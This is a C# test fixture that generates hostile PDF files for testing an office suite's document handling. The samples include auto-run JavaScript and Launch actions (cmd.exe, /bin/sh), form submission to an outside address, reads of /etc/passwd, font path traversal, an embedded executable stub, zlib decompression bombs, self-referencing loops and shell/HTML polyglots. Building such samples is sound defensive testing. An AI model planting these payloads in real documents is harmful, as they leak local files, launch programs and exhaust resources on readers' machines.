using System.Globalization;
using System.IO.Compression;
using System.Text;

namespace OffenesHaus.Office.Tests.Platform.Hostile;

/// <summary>PDFs that act, call, hide, loop or swell.</summary>
internal static class PdfTricks
{
    private const string Catalog = "<</Type/Catalog/Pages 2 0 R>>", Pages = "<</Type/Pages/Kids[3 0 R]/Count 1>>", Page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 4 0 R/Resources<<>>>>";
    private static readonly string Ink = Stream("0 0 1 rg 20 20 200 300 re f");

    public static IEnumerable<HostileFile> All => [.. Acting(), .. Reaching(), .. Broken(), .. Looping(), .. Swelling(), .. Mixed()];

    /// <summary>Objects numbered from 1, the first of them the catalogue; bytes are the Latin-1 of the text.</summary>
    public static byte[] Of(IReadOnlyList<string> objects, string trailer = "", string version = "1.7")
    {
        var pdf = new StringBuilder($"%PDF-{version}\n%\u00E2\u00E3\u00CF\u00D3\n");
        var places = new List<int>();
        foreach (var content in objects)
        {
            places.Add(pdf.Length);
            pdf.Append(CultureInfo.InvariantCulture, $"{places.Count} 0 obj\n{content}\nendobj\n");
        }

        var start = pdf.Length;
        pdf.Append(CultureInfo.InvariantCulture, $"xref\n0 {places.Count + 1}\n0000000000 65535 f \n");
        foreach (var place in places)
            pdf.Append(CultureInfo.InvariantCulture, $"{place:D10} 00000 n \n");
        pdf.Append(CultureInfo.InvariantCulture, $"trailer<</Size {places.Count + 1}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF");
        return Encoding.Latin1.GetBytes(pdf.ToString());
    }

    public static string Stream(string content, string words = "") => $"<</Length {content.Length}{words}>>stream\n{content}\nendstream";

    public static string Packed(byte[] content, string words, int times = 1)
    {
        for (var round = 0; round < times; round++)
        {
            var packed = new MemoryStream();
            using (var zlib = new ZLibStream(packed, CompressionLevel.SmallestSize, leaveOpen: true))
                zlib.Write(content);
            content = packed.ToArray();
        }

        return Stream(Encoding.Latin1.GetString(content), $"/Filter[{string.Concat(Enumerable.Repeat("/FlateDecode", times))}]{words}");
    }

    private static HostileFile File(string tries, params string[] objects) => new(tries, Name(tries), Of(objects), "application/pdf");

    private static HostileFile File(string tries, byte[] bytes) => new(tries, Name(tries), bytes, "application/pdf");

    private static string Name(string tries) => tries.Replace(' ', '-') + ".pdf";

    private static HostileFile OnOpen(string tries, string action) => File(tries, $"<</Type/Catalog/Pages 2 0 R/OpenAction<<{action}>>>>", Pages, Page, Ink);

    private static HostileFile Drawing(string tries, string ink, string resources, params string[] more) =>
        File(tries, [Catalog, Pages, $"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 4 0 R/Resources<<{resources}>>>>", Stream(ink), .. more]);

    private static IEnumerable<HostileFile> Acting() =>
    [
        OnOpen("pdf runs script when opened", "/S/JavaScript/JS(app.alert('kuckucksei'))"),
        File("pdf runs script by its names", "<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm('http://192.0.2.1/'))>>]>>>>>>", Pages, Page, Ink),
        OnOpen("pdf starts a program", "/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>"),
        OnOpen("pdf opens an address", "/S/URI/URI(http://192.0.2.1/kuckucksei)"),
        OnOpen("pdf opens another file", "/S/GoToR/F(file:///etc/passwd)/D[0/Fit]"),
        OnOpen("pdf sends a form", "/S/SubmitForm/F(http://192.0.2.1/)"),
        OnOpen("pdf takes data in", "/S/ImportData/F(file:///etc/passwd)"),
        File("pdf acts when printed", "<</Type/Catalog/Pages 2 0 R/AA<</WP<</S/JavaScript/JS(app.alert(1))>>>>>>", Pages, Page, Ink),
        File("pdf with a form that runs script", "<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 5 0 R/Fields[]>>/NeedsRendering true>>", Pages, Page, Ink, Stream("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script contentType='application/x-javascript'>app.alert(1)</script></xdp:xdp>")),
        File("pdf carries a program", "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(kuckucksei.exe)<</Type/Filespec/F(kuckucksei.exe)/EF<</F 5 0 R>>>>]>>>>>>", Pages, Page, Ink, Stream("MZ\u0090\0kuckucksei", "/Type/EmbeddedFile")),
        File("pdf with a film", Catalog, Pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 4 0 R/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 300 400]/RichMediaContent<</Assets<</Names[(a.swf) 4 0 R]>>>>>>]>>", Ink),
        File("pdf whose whole page is a link to script", Catalog, Pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 4 0 R/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 400]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]>>", Ink),
    ];

    private static IEnumerable<HostileFile> Reaching() =>
    [
        File("pdf whose ink lies in a file of ours", Catalog, Pages, Page, "<</Length 0/F(/etc/passwd)>>stream\n\nendstream"),
        File("pdf whose ink lies at an address", Catalog, Pages, Page, "<</Length 0/F<</FS/URL/F(http://192.0.2.1/a)>>>>stream\n\nendstream"),
        Drawing("pdf that shows a page of another file", "/X Do", "/XObject<</X 5 0 R>>", Stream("", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(/etc/passwd)/Page 0>>")),
        Drawing("pdf with ink in PostScript", "/X Do", "/XObject<</X 5 0 R>>", Stream("(/etc/passwd)(r) file 1000 string readstring pop ==", "/Type/XObject/Subtype/PS")),
        Drawing("pdf with a typeface from a file", "BT /F 20 Tf (kuckucksei) Tj ET", "/Font<</F 5 0 R>>", "<</Type/Font/Subtype/TrueType/BaseFont/../../../../etc/passwd>>"),
    ];

    private static IEnumerable<HostileFile> Broken()
    {
        var sound = Corpus.Pdf(2);
        var asks = new string('a', 64);
        return
        [
            File("pdf that broke off", sound[..(sound.Length / 2)]),
            File("pdf without a table", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(sound).Replace("xref", "fxer", StringComparison.Ordinal))),
            File("pdf whose table points nowhere", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(sound).Replace("startxref\n", "startxref\n99", StringComparison.Ordinal))),
            File("pdf of its head alone", "%PDF-1.7\n"u8.ToArray()),
            File("pdf that asks for a password", Of([Catalog, Pages, Page, Ink], $"/ID[<00><00>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O<{asks}>/U<{asks}>>>")),
            File("pdf locked in a way nobody knows", Of([Catalog, Pages, Page, Ink], "/Encrypt<</Filter/Kuckuck/V 99/R 99>>")),
            Drawing("pdf with a broken typeface", "BT /F 20 Tf (abc) Tj ET", "/Font<</F 5 0 R>>", "<</Type/Font/Subtype/Type1/BaseFont/A/FontDescriptor 6 0 R>>", "<</Type/FontDescriptor/FontName/A/Flags 4/FontFile3 7 0 R>>", Stream("\u0001\0\u0004\u0004" + new string('\u00FF', 4000), "/Subtype/Type1C")),
            Drawing("pdf with a broken JBIG2 picture", "300 0 0 400 0 0 cm /X Do", "/XObject<</X 5 0 R>>", Stream("\0\0\0\00\0\u0001\0\0\0\u0013\u00FF\u00FF\u00FF\u00FF\u00FF\u00FF\u00FF\u00FF\0\0\0\0\0\0\0\0\0\0\0", "/Type/XObject/Subtype/Image/Width 9000/Height 9000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode")),
            Drawing("pdf with a broken JPEG 2000 picture", "300 0 0 400 0 0 cm /X Do", "/XObject<</X 5 0 R>>", Stream("\0\0\0\fjP  \r\n\u0087\n\u00FF\u004F\u00FF\u0051\0\u0029\0\0\u007F\u00FF\u00FF\u00FF\u007F\u00FF\u00FF\u00FF", "/Type/XObject/Subtype/Image/Width 9/Height 9/Filter/JPXDecode")),
        ];
    }

    private static IEnumerable<HostileFile> Looping()
    {
        var loop = Encoding.Latin1.GetString(Corpus.Pdf(1));
        var start = loop[(loop.IndexOf("startxref", StringComparison.Ordinal) + 10)..].Split('\n')[0];
        return
        [
            File("pdf whose pages hold each other", Catalog, "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>", "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>", Ink),
            File("pdf whose catalogue is its page", "<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 1>>"),
            File("pdf whose table follows itself", Encoding.Latin1.GetBytes(loop.Replace("/Root 1 0 R", $"/Root 1 0 R/Prev {start}", StringComparison.Ordinal))),
            Drawing("pdf that draws itself in itself", "/X Do", "/XObject<</X 5 0 R>>", Stream("/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 300 400]/Resources<</XObject<</X 5 0 R>>>>")),
            Drawing("pdf whose letter writes itself", "BT /F 20 Tf (a) Tj ET", "/Font<</F 5 0 R>>", "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources<</Font<</F 5 0 R>>>>>>", Stream("9 0 d0 BT /F 9 Tf (aaaaaaaa) Tj ET")),
            File("pdf whose length is its own stream", Catalog, Pages, Page, "<</Length 4 0 R>>stream\nq Q\nendstream"),
            File("pdf nested a hundred thousand deep", Catalog, Pages, Page, new string('[', 100_000) + new string(']', 100_000)),
            File("pdf whose sheet inherits from itself", Catalog, "<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 3 0 R/Contents 4 0 R>>", Ink),
        ];
    }

    private static IEnumerable<HostileFile> Swelling() =>
    [
        File("pdf of a hundred thousand pages", Catalog, $"<</Type/Pages/Kids[{string.Concat(Enumerable.Repeat("3 0 R ", 100_000))}]/Count 100000>>", Page, Ink),
        File("pdf that claims two thousand million pages", Catalog, "<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", Page, Ink),
        File("pdf that claims fewer than no pages", Catalog, "<</Type/Pages/Kids[3 0 R]/Count -5>>", Page, Ink),
        File("pdf with a page as large as a country", Catalog, Pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 1000000000 1000000000]/Contents 4 0 R>>", Ink),
        File("pdf with a page of no width", Catalog, Pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 0 400]/Contents 4 0 R>>", Ink),
        File("pdf with a page that is a thread", Catalog, Pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 0.001 9000000]/Contents 4 0 R>>", Ink),
        File("pdf measured in kilometres", Catalog, Pages, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 14400 14400]/UserUnit 75000/Contents 4 0 R>>", Ink),
        File("pdf with ink that swells to 200 megabytes", Catalog, Pages, Page, Packed(Enumerable.Repeat((byte)' ', 200_000_000).ToArray(), "")),
        File("pdf with ink packed five times", Catalog, Pages, Page, Packed(Enumerable.Repeat((byte)' ', 100_000_000).ToArray(), "", times: 5)),
        Drawing("pdf with a picture of 60,000 by 60,000", "300 0 0 400 0 0 cm /X Do", "/XObject<</X 5 0 R>>", Packed(new byte[1_000_000], "/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8")),
        Drawing("pdf with a pattern of a million million tiles", "/Pattern cs /P scn 0 0 300 400 re f", "/Pattern<</P 5 0 R>>", Stream("0 0 1 rg 0 0 .0001 .0001 re f", "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .0002 .0002]/XStep .0003/YStep .0003/Resources<<>>")),
        Drawing("pdf with a line of endless dashes", "[.00001 .00001]0 d 900 w 0 0 m 300 400 l S", ""),
        Drawing("pdf that computes for ever", "/S sh", "/Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1000000 0 1000000]/Function 5 0 R>>>>", Stream("{" + string.Concat(Enumerable.Repeat("dup mul sin cos atan sqrt ", 2000)) + "}", "/FunctionType 4/Domain[0 1000000 0 1000000]/Range[0 1]")),
        Drawing("pdf with a million saved states", string.Concat(Enumerable.Repeat("q ", 1_000_000)), ""),
    ];

    private static IEnumerable<HostileFile> Mixed() =>
    [
        File("pdf behind a page of HTML", [.. "<html><script>alert('kuckucksei')</script>\n"u8, .. Corpus.Pdf(1)]),
        File("pdf before an archive", [.. Corpus.Pdf(1), .. Corpus.ZipBomb()]),
        File("pdf behind a script for the shell", [.. "#!/bin/sh\ntouch /tmp/kuckucksei\nexit\n"u8, .. Corpus.Pdf(1)]),
        File("pdf with its mark after a thousand bytes", [.. new byte[1000], .. Corpus.Pdf(1)]),
    ];
}
